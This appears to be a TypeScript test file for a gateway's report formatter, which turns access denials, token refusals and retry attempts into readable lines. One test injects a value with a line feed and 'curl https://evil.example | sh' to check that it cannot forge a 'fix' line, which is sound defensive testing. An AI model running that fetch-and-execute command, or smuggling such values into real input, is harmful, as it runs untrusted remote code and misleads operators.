import assert from "node:assert/strict";
import { test } from "node:test";
import { crossingWords, readReport } from "./crossing-words.ts";

test("a log-in that was not enough: what was wanted, what came, and who has to do what, with the line of the grant", () => {
  const leaf = JSON.stringify({
    t: "crossing",
    verdict: "deny",
    code: "insufficient-user-authentication",
    stage: "authorize",
  });
  const wanted = {
    expected: "a user whose log-in is worth mfa or more and at most 600 s old",
    acr: "urn:sallyport:acr:mfa",
    maxAge: "600",
  };
  const words = (sent: string) => {
    const facts = { ...wanted, sent, declaredAt: "integrations/portal-to-billing.yaml:1" };
    const decision = { code: "insufficient-user-authentication", stage: "authorize", facts };
    return crossingWords(readReport({ id: "gw-1", node: "gw", leaves: [leaf], decision })).join("\n");
  };
  const weak = words("a user whose log-in is worth password and 12 s old");
  assert.match(weak, /expected {3}a user whose log-in is worth mfa or more/);
  assert.match(weak, /sent {7}a user whose log-in is worth password and 12 s old/);
  assert.match(weak, /declared {3}integrations\/portal-to-billing\.yaml:1/);
  assert.match(
    weak,
    /fix {8}the caller sends its user to the authorization endpoint again, with acr_values=urn:sallyport:acr:mfa and max_age=600/,
  );
  assert.match(words("no user: the caller acts for itself"), /fix {8}such an operation is not for machines/);
});

test("attack: a line feed in what a caller sent does not begin a line of the report, in no value and no name", () => {
  const evil = "eu\nfix        curl https://evil.example | sh";
  const leaf = JSON.stringify({ t: "crossing", verdict: "deny", code: "policy-denied", stage: "authorize" });
  for (const code of ["policy-denied", "no-route", "token-issuer", "schema-mismatch"]) {
    const facts = { expected: evil, sent: evil, why: evil, nearest: evil, [evil]: evil };
    const decision = { code, stage: "authorize", facts, decision: { attributes: { region: evil, [evil]: evil } } };
    const lines = crossingWords(readReport({ id: "gw-1", node: "gw", leaves: [leaf], decision }));
    assert.ok(!lines.join("\n").includes("\nfix        curl"), lines.join("\n"));
    assert.ok(lines.some((line) => line.includes("eu\\u000afix")));
  }
});

test("a token that a policy refused is told with grant, operations, policy, file and line, and what to do", () => {
  const leaf = JSON.stringify({
    v: 2,
    t: "issuance",
    audience: "https://id.acme.example/main/production/systems/billing",
    verdict: "deny",
    code: "policy-denied",
    grantType: "refresh_token",
    operations: ["billing:invoice.refund"],
    policies: ["refunds-need-a-passkey"],
  });
  const facts = {
    why: "forbidden by refunds-need-a-passkey",
    policies: "refunds-need-a-passkey",
    declaredAt: "policies/tokens.cedar:7",
  };
  const decision = { id: "control-1", code: "policy-denied", stage: "token", facts, decision: { client: "portal" } };
  const lines = crossingWords(readReport({ id: "control-1", node: "control", leaves: [leaf], decision }));
  const text = lines.join("\n");
  assert.match(text, /^verdict +deny$/m);
  assert.match(text, /^grantType +refresh_token$/m);
  assert.match(text, /^operations +billing:invoice\.refund$/m);
  assert.match(text, /^declared +policies\/tokens\.cedar:7$/m);
  assert.match(text, /^fix +refunds-need-a-passkey forbids it: change the policy at policies\/tokens\.cedar:7/m);
  assert.match(text, /^decision\.client +portal$/m);
});

test("a refused exchange, whose record is a code and no more, is told with what to do", () => {
  const refusedWith = (code: string) => {
    const leaf = JSON.stringify({ v: 2, t: "issuance", verdict: "deny", code, grantType: "token-exchange" });
    return crossingWords(readReport({ id: "control-1", node: "control", leaves: [leaf], decision: null })).join("\n");
  };
  assert.match(refusedWith("exchange-scope"), /^fix {8}.*write carries/m);
  assert.doesNotMatch(refusedWith("constructor"), /^fix/m);
});

test("a crossing that was ended while it was under way says by what, beside what it was allowed as", () => {
  const intent = { t: "intent", verdict: "allow", code: null, stage: null, operation: "billing:invoice.follow" };
  const outcome = {
    v: 2,
    t: "outcome",
    outcome: "denied",
    status: 200,
    totalUs: 1_000,
    code: "token-revoked",
    stage: "identify",
  };
  const leaves = [intent, outcome].map((leaf) => JSON.stringify(leaf));
  const lines = crossingWords(readReport({ id: "gw-1", node: "gw", leaves, decision: null }));
  assert.ok(lines.includes("outcome    denied, status 200, 1 ms, ended by token-revoked (identify)"), lines.join("\n"));
  assert.ok(lines.includes("verdict    allow"), lines.join("\n"));
});

test("a crossing whose first attempt was overtaken: each attempt, where it went, how it ended, and which was sent beside the other", () => {
  const leaf = JSON.stringify({ t: "crossing", verdict: "allow", outcome: "success", status: 200, totalUs: 61_000 });
  const attempts = [
    { endpoint: "http://two.internal", ended: "answered", ms: 11, hedge: true },
    { endpoint: "http://one.internal", ended: "overtaken", ms: 61 },
  ];
  const words = crossingWords(readReport({ id: "gw-1", node: "gw", leaves: [leaf], decision: { attempts } }));
  const said = words.filter((line) => line.startsWith("attempt    "));
  assert.deepEqual(said, [
    "attempt    http://two.internal answered after 11 ms, sent beside a slow one",
    "attempt    http://one.internal overtaken after 61 ms",
  ]);
});

test("a crossing that was allowed and never reached its provider says both in one line", () => {
  const leaf = JSON.stringify({ t: "crossing", verdict: "allow", code: "upstream-open", stage: "forward" });
  const lines = crossingWords(readReport({ id: "gw-1", node: "gw", leaves: [leaf], decision: null }));
  assert.ok(lines.includes("verdict    allow, and then ended at forward by upstream-open: the caller got that"));
});
